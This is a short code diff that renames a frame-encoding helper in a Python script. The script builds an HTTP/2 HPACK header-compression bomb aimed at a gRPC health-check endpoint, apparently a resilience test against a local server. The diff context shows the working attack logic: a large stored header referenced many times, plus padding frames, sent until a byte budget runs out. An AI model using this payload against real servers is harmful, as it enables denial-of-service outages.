@@ -14,7 +14,7 @@ PATH = b"/grpc.health.v1.Health/Check"
 ENDED_S = 1.0
 
 
-def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
+def encode_frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
     return len(body).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + body
 
 
@@ -52,13 +52,13 @@ async def send_bomb(port: int, budget_bytes: int, host: str = "127.0.0.1", paddi
     ended = asyncio.ensure_future(_read_all(reader))
     try:
         store = b"\x40" + _text(b"n" * FIELD_BYTES) + _text(b"v")
-        writer.write(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
-        writer.write(frame(HEADERS, END_HEADERS, 1, CALL + store))
-        body, behind = CALL + STORED * REFERENCES, frame(UNKNOWN, 0, 0, bytes(PADDING_BYTES)) * padding
+        writer.write(PREFACE + encode_frame(SETTINGS, 0, 0) + encode_frame(SETTINGS, ACK, 0))
+        writer.write(encode_frame(HEADERS, END_HEADERS, 1, CALL + store))
+        body, behind = CALL + STORED * REFERENCES, encode_frame(UNKNOWN, 0, 0, bytes(PADDING_BYTES)) * padding
         for number in range(1, 1 + budget_bytes // (len(body) + len(behind))):
             if ended.done():
                 break
-            writer.write(frame(HEADERS, END_HEADERS, 1 + 2 * number, body) + behind)
+            writer.write(encode_frame(HEADERS, END_HEADERS, 1 + 2 * number, body) + behind)
             await writer.drain()
         await asyncio.wait({ended}, timeout=ENDED_S)
     except OSError:
